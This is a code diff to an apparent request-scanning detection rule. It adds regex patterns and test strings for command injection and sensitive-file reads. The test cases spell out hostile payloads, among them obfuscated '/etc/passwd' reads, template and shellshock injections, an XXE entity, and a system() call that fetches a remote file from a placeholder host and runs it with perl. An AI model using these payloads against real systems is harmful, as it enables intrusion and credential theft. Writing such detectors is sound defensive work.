@@ -1,11 +1,25 @@
 import { isCommandInRequest } from '../../request-command.js';
 import { isInRequest, requestValueBefore } from '../../request-value.js';
-import type { Rule } from '../../rule.js';
+import type { Candidate, Rule } from '../../rule.js';
 
 /** Whether a match stands in the value of a request; a text on its own is one only behind a single word. */
 function isInjected(before: string, fromStart: boolean): boolean {
   const value = requestValueBefore(before, fromStart);
   return value !== undefined && (!value.bare || /^\S*\s?[&|]?$/.test(value.before));
+}
+
+/** What prints a file, and what picks from one and is told what before it: `cut -d: -f1`, `grep root`. */
+const READER =
+  /(?:^|[;|&`({]\s?)(?:\/?(?:usr\/)?s?bin\/)?(?:(?:base(?:32|64)|bat|bz?cat|cat|comm|cut|diff|expand|file|fmt|fold|head|hd|hexdump|iconv|join|less|look|more|nl|od|paste|rev|shuf|sort|split|strings|tac|tail|tee|uniq|view|vim?|wc|x(?:xd|zcat)|zcat)(?:[\s+]-\S*)*|(?:[efz]?grep|[gmn]?awk|rg|sed)(?:[\s+]-\S+)*(?:[\s+][^\s;|&]+)?)$/;
+/** What a shell takes off or fills in inside of a name: `c\\at`, `c''at`, `c*at`. */
+const DISGUISE = /["'\\*?]|\$[@*!?#-]/g;
+/** The end of the command, or more of it. */
+const END_OF_READ = /^\s*(?:$|["'`;|&)>#\n]|\/\w|-\w|\sHTTP)/;
+
+/** Whether the file that a match names is read where a value begins or behind a separator in it. */
+function isRead(match: Candidate): boolean {
+  const value = requestValueBefore(match.before, match.fromStart);
+  return value?.sent === true && READER.test(value.before.replace(DISGUISE, '')) && END_OF_READ.test(match.after);
 }
 
 /** How zsh expands a word as if a variable held it, `${${:-$HOME/x}:A}`; a look-up hides a few letters so. */
@@ -70,6 +84,8 @@ export const rule: Rule = {
       re: /(?:system|exec|eval|passthru|shell_exec|popen|proc_open)\(["'](?:whoami|uname(?: -a)?|id|pwd|dir|ls(?: -\w{1,4})?|sleep \d{1,3}|(?:curl|wget) https?:\/\/[\w./?=&: -]{4,100})["']\s?[,)]/i,
       accept: ({ before, fromStart }) => isInjected(before, fromStart),
     },
+    // A call in code that goes where everybody may write, to fetch something there
+    { re: /(?:system|exec|popen|passthru)\(["'](?:\w+ )?cd \/(?:var\/)?tmp ?[;&]/, accept: isInRequest },
     { re: /(?<=\()(?:T\(java\.lang\.Runtime\)|new java\.lang\.ProcessBuilder)/ },
     { re: /\{\{[^}\n]*(?:__class__|__globals__|__import__|__subclasses__|popen\s*\(|getRuntime)/, window: 300 },
     { re: /%\{\(?#[\w.]+=[^\n]*@java\.lang\.Runtime/, window: 600 },
@@ -102,9 +118,13 @@ export const rule: Rule = {
     },
     // What no page is called, where a value begins: `file=/etc/shadow`
     {
-      re: /=\/?(?:etc\/(?:group|passwd|shadow|sudoers|master\.passwd|crontab|fstab|hosts|hosts\.(?:allow|deny)|mtab|shells|my\.cnf)|proc\/(?:self\/(?:environ|cmdline|maps|mem|fd|status)|cpuinfo|version|mounts|net\/(?:arp|route|tcp))|root\/\.(?:bash_history|ssh\/\w+)|var\/log\/(?:auth|secure|syslog)(?:\.log)?)(?![\w.-])/,
+      re: /=\/?(?:etc\/(?:group|passwd|shadow|sudoers|master\.passwd|s?pwd\.db|crontab|fstab|hosts|hosts\.(?:allow|deny)|mtab|shells|my\.cnf)|proc\/(?:self\/(?:environ|cmdline|maps|mem|fd|status)|cpuinfo|version|mounts|net\/(?:arp|route|tcp))|(?:root|home\/\w+)\/\.(?:bash_history|ssh\/\w+)|var\/log\/(?:auth|secure|syslog)(?:\.log)?)(?![\w.-])/,
       accept: isInRequest,
     },
+    // Any program that prints it, where a value begins: `xxd /etc/passwd`
+    { re: /[ +]\/etc\/(?:group|passwd|shadow|hosts|sudoers|crontab)(?![\w.-])/, accept: isRead },
+    // A program by no name that is known here, but with an option: `;rake --version`
+    { re: /=[;|]["']?[a-z][\w.-]*["']? --[a-z]/, accept: isInRequest },
     // Options that name a program to run, in the place of a file or a host.
     { re: /=--?(?:oProxyCommand|upload-pack|use-askpass|checkpoint-action)=/, accept: isInRequest },
     {
@@ -132,6 +152,11 @@ export const rule: Rule = {
   ],
   examples: {
     fires: [
+      '/get?x=xxd /etc/passwd',
+      '/get?host=files.invalid;c*at+/etc/passwd',
+      '/post\ncode=grep root /etc/passwd\n',
+      '/post\narg=\ncut -c1-9 /etc/passwd; Something',
+      '/post\narg=;rake --version\n',
       '/get?file=/proc/net/arp',
       '/post\nfile=root/.ssh/id_rsa\n',
       '/post\nx=() { x; };\n',
@@ -153,6 +178,7 @@ export const rule: Rule = {
       "/get?x=1;system('whoami');",
       "/get?x=passthru('ls -la');",
       '/get?x=phpinfo();',
+      "/post\narg=system('echo cd /tmp;ftp http://files.invalid/a -O b;perl b')\n",
       "process.mainModule.require('child_process').execSync('id')",
       '${"freemarker.template.utility.Execute"?new()("id")}',
       '!!python/object/apply:os.system ["id"]',
@@ -172,6 +198,11 @@ export const rule: Rule = {
       '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
     ],
     silent: [
+      '/get?q=what sort of file is /etc/passwd',
+      '/post\ntext=sort /etc/hosts by name\n',
+      'sort /etc/passwd',
+      '/post\ntext=;-) --see you\n',
+      'x=;rake --version is shown',
       '/get?f=() { return 1; }',
       'FILE=/etc/group',
       '/get?page=/etc/hosts.html',
@@ -183,6 +214,7 @@ export const rule: Rule = {
       '{{ user.name }}',
       "const name = run(() => {\n  exec('whoami');",
       'See the output of phpinfo().',
+      "os.system('cd /tmp; make')",
       'Run %COMSPEC% /c ver to see it.',
       'See ../../etc/passwd in the sandbox of the test.',
       '- !!python/object/apply:mytests.Point [1, 2]',
